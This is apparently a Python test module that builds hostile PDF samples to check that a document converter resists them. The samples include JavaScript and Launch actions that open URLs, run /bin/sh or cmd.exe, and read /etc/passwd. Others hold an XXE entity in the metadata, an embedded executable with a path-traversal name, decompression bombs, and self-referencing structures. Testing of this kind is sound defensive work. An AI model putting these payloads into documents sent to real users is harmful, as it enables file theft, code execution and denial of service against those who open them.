"""PDFs: scripts, actions, embedded files, loops, bombs, encryption, damage."""

import io
import zlib

import pikepdf

from tests.integration.converting.hostile.sample import Sample, Traps, cut_short, flip

PDF = "application/pdf"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def make_pdf(*objects: bytes, catalogue: bytes = b"/Type/Catalog/Pages 2 0 R", pages: bytes = b"") -> bytes:
    """Return a PDF of one page, with what is put into its catalogue and further objects from number 5 on."""
    pages = pages or b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    content = b"BT /F1 24 Tf 20 100 Td (Decided) Tj ET"
    all_of_them = [
        b"<<" + catalogue + b">>",
        pages,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1" + _FONT + b">>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        *objects,
    ]
    data, places = b"%PDF-1.7\n", []
    for number, one in enumerate(all_of_them, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(all_of_them) + 1
    return data + b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        count,
        table,
        count,
        len(data),
    )


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), more, data)


def _act(action: bytes) -> bytes:
    return make_pdf(action, catalogue=b"/Type/Catalog/Pages 2 0 R/OpenAction 5 0 R")


def _encrypt(owner: str, user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner=owner, user=user, R=6))
    return out.getvalue()


def _embed(name: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf())) as pdf:
        pdf.attachments["own"] = pikepdf.AttachedFileSpec(pdf, b"MZ own", filename=name)
        pdf.save(out)
    return out.getvalue()


def _page(content: bytes, more: bytes = b"") -> bytes:
    return make_pdf(_stream(content, more)).replace(b"/Contents 4 0 R", b"/Contents 5 0 R")


def _box(box: bytes) -> bytes:
    return make_pdf().replace(b"[0 0 300 200]", box)


def make_samples(traps: Traps) -> list[Sample]:
    """Return the PDFs."""
    address, path = traps.address.encode(), traps.path.encode()
    script = b"<</S/JavaScript/JS(app.launchURL\\('%s'\\);this.submitForm\\('%s'\\))>>" % (address, address)
    zeros = zlib.compress(bytes(30_000_000), 9)
    twice = zlib.compress(zeros, 9)
    deep = b"[" * 50_000 + b"]" * 50_000
    good = make_pdf()
    many = b"<</Type/Pages/Kids[" + b"3 0 R " * 5_000 + b"]/Count 5000>>"
    samples = {
        "script on opening": _act(script),
        "launch": _act(b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        "launch touch": _act(b"<</S/Launch/F(/usr/bin/touch)/P(%s)>>" % path),
        "form sent": _act(b"<</S/SubmitForm/F(%s)>>" % address),
        "address opened": _act(b"<</S/URI/URI(%s)>>" % address),
        "other file opened": _act(b"<</S/GoToR/F(/etc/passwd)/D[0/Fit]>>"),
        "share opened": _act(b"<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\own)/D[0/Fit]>>"),
        "data imported": _act(b"<</S/ImportData/F(/etc/passwd)>>"),
        "action that follows itself": _act(b"<</S/URI/URI(%s)/Next 5 0 R>>" % address),
        "program embedded": _embed("own.exe"),
        "embedded under a path": _embed("../../own.sh"),
        "page tree in a loop": make_pdf(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
        "page tree in a wider loop": make_pdf(
            b"<</Type/Pages/Kids[2 0 R]/Count 9>>", pages=b"<</Type/Pages/Kids[5 0 R]/Count 9>>"
        ),
        "page that is its own parent": good.replace(b"/Parent 2 0 R", b"/Parent 3 0 R"),
        "count of pages that lies": make_pdf(pages=b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>"),
        "count of pages below nought": make_pdf(pages=b"<</Type/Pages/Kids[3 0 R]/Count -5>>"),
        "five thousand pages that are one": make_pdf(pages=many),
        "content of thirty million noughts": _page(zeros, b"/Filter/FlateDecode"),
        "content packed twice": _page(twice, b"/Filter[/FlateDecode/FlateDecode]"),
        "content packed twenty times": _page(zeros, b"/Filter[" + b"/FlateDecode" * 20 + b"]"),
        "content that is not packed": _page(b"not packed", b"/Filter/FlateDecode"),
        "content of unknown packing": _page(b"x", b"/Filter/Own"),
        "content of one million marks": _page(b"q " * 1_000_000),
        "content of a million curves": _page(b"0 0 m " + b"1 2 3 4 5 6 c " * 300_000 + b"S"),
        "lists nested deep": _act(deep),
        "stream of objects that are not there": make_pdf(
            _stream(zeros[:1000], b"/Type/ObjStm/N 100000/First 10/Filter/FlateDecode")
        ),
        "stream of objects that extends itself": make_pdf(_stream(b"5 0 ", b"/Type/ObjStm/N 1/First 4/Extends 5 0 R")),
        "length that refers to itself": make_pdf(b"<</Length 5 0 R>>stream\nx\nendstream"),
        "page of no size": _box(b"[0 0 0 0]"),
        "page of huge size": _box(b"[0 0 2000000000 2000000000]"),
        "page as a thread": _box(b"[0 0 1000000 0.001]"),
        "page turned inside out": _box(b"[300 200 0 0]"),
        "page without numbers": _box(b"[/a /b /c /d]"),
        "table of places that lies": good.replace(b"0000000009", b"9999999999"),
        "table that follows itself": good.replace(b"/Size 5", b"/Size 5/Prev 400"),
        "start of the table beyond the end": good[: good.rindex(b"startxref")] + b"startxref\n999999999\n%%EOF",
        "start of the table below nought": good[: good.rindex(b"startxref")] + b"startxref\n-1\n%%EOF",
        "no table": good[: good.index(b"xref")],
        "nothing but a head": b"%PDF-1.7\n",
        "nothing but an end": b"%PDF-1.7\nstartxref\n0\n%%EOF",
        "root missing": good.replace(b"/Root 1 0 R", b"/Rood 1 0 R"),
        "font in a loop": good.replace(b"/BaseFont/Helvetica", b"/DescendantFonts[3 0 R]"),
        "pattern in a loop": make_pdf(_stream(b"/P scn 0 0 9 9 re f", b"/Type/Pattern/PatternType 1/Resources 5 0 R")),
        "form in a loop": make_pdf(
            _stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>")
        ).replace(b"/Resources<</Font", b"/Resources<</XObject<</X 5 0 R>>/Font"),
        "picture of huge size": make_pdf(
            _stream(b"x", b"/Subtype/Image/Width 2000000000/Height 2000000000/BitsPerComponent 8/ColorSpace/DeviceRGB")
        ).replace(b"/Resources<</Font", b"/Resources<</XObject<</X 5 0 R>>/Font"),
        "picture of broken JPEG 2000": make_pdf(
            _stream(b"\xff\x4f\xff\x51" * 50, b"/Subtype/Image/Width 9/Height 9/Filter/JPXDecode")
        ).replace(b"/Resources<</Font", b"/Resources<</XObject<</X 5 0 R>>/Font"),
        "picture of broken JBIG2": make_pdf(
            _stream(b"\0" * 64, b"/Subtype/Image/Width 9/Height 9/BitsPerComponent 1/Filter/JBIG2Decode")
        ).replace(b"/Resources<</Font", b"/Resources<</XObject<</X 5 0 R>>/Font"),
        "form of XFA": make_pdf(_stream(b"<xdp/>"), catalogue=b"/Type/Catalog/Pages 2 0 R/AcroForm<</XFA 5 0 R>>"),
        "entities in its metadata": make_pdf(
            _stream(b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', b"/Type/Metadata/Subtype/XML"),
            catalogue=b"/Type/Catalog/Pages 2 0 R/Metadata 5 0 R",
        ),
        "encrypted": _encrypt("own", "secret"),
        "encrypted for its owner": _encrypt("own", ""),
        "encryption unknown": good.replace(b"/Size 5", b"/Size 5/Encrypt<</Filter/Own/V 99>>"),
        "names with null bytes": good.replace(b"/Type/Page/", b"/Ty#00pe/Page/"),
        "after rubbish": b"rubbish\n" * 200 + good,
    }
    broken = cut_short("pdf", PDF, good, 8) + flip("pdf", PDF, good, 8)
    return [Sample(f"pdf: {name}", PDF, data) for name, data in samples.items()] + broken
